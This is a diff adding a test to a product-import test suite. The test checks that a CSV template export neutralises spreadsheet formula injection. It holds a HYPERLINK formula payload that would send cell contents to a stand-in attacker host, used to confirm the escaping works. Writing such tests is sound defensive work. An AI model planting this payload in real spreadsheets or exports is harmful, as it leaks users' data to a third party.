@@ -158,4 +158,30 @@ describe("product import", () => {
     const anonymous = await call(templateLoader, makeRequest("/admin/importar/modelo.csv"));
     expect(anonymous.status).toBe(302);
   });
+
+  it("neutralizes a formula in the template's example (a category typed as one), and imports it back as typed", async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1;"Ver")';
+    const active = await db().select().from(categorias).where(eq(categorias.ativo, true));
+    // The template takes the first active category: only the formula one is active.
+    await db().update(categorias).set({ ativo: false });
+    await db().insert(categorias).values({ nome: formula });
+    try {
+      const answer = await call(
+        templateLoader,
+        makeRequest("/admin/importar/modelo.csv", { token }),
+      );
+      const text = await answer.response!.text();
+      const cells = text.split("\r\n")[1]!;
+      expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1;""Ver"")"`);
+      expect(text).not.toMatch(/(^|[;\n])=/);
+
+      const p = await preview("modelo.csv", Buffer.from(text));
+      expect(p.data.preview.rows[0].product.categoria).toBe(formula);
+    } finally {
+      await db().delete(categorias).where(eq(categorias.nome, formula));
+      for (const c of active) {
+        await db().update(categorias).set({ ativo: true }).where(eq(categorias.id, c.id));
+      }
+    }
+  });
 });
